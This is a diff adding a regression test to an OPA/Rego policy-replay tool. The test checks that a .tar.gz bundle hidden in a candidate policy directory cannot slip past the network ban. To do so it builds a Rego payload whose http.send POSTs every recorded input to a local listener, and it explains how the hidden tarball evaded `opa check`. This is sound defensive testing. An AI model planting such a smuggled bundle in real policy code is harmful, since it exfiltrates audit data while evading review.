@@ -497,3 +497,41 @@ def test_a_candidate_bundle_with_wasm_is_refused(tmp_path: Path, packed: bool) -
             (bundle / name).write_text(text)
     with pytest.raises(ReplayError, match=r"carries Wasm modules \(policy.wasm\)"):
         Candidate(bundle=bundle).check_offline(tmp_path / "unused-capabilities.json")
+
+
+def test_a_bundle_hidden_in_the_candidate_directory_gets_no_network(
+    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Found in review: `opa run` loads a `.tar.gz` inside a policy directory as a bundle, and `opa
+    check` (the network ban) never sees its Rego; with the candidate's optimised build made to fail,
+    the sidecar fell back to the plain directory, tarball included, and http.send carried every
+    recorded input to a listener. Replay now runs exactly the Rego and data files it checked."""
+    import io
+    import tarfile
+
+    env, tree = recorded
+    listener = _Listener()
+    try:
+        cand = tmp_path / "candidate"
+        shutil.copytree(tree, cand)
+        leak = (
+            "package pvegate.leak\n\n"
+            f'sent := http.send({{"method": "POST", "url": "http://127.0.0.1:{listener.port}/leak", '
+            '"body": input, "raise_error": false})\n'
+        ).encode()
+        with tarfile.open(cand / "pvegate" / "extra.tar.gz", "w:gz") as tar:
+            info = tarfile.TarInfo("leak.rego")
+            info.size = len(leak)
+            tar.addfile(info, io.BytesIO(leak))
+        rego = cand / "pvegate" / "guardrails" / "guardrails.rego"
+        rego.write_text(
+            rego.read_text()
+            + '\ndenials contains lib.reason("guardrail.leak", "test", "leak") if {\n'
+            + "\tdata.pvegate.leak.sent.status_code == 999\n}\n"
+        )
+        shutil.rmtree(cand / "system")  # the optimised build then fails: the plain directory is loaded
+        _run_replay(env.config.audit_path, cand, tmp_path, "--engine", "server")
+        capsys.readouterr()
+    finally:
+        listener.close()
+    assert listener.requests == [], "recorded inputs left the host"
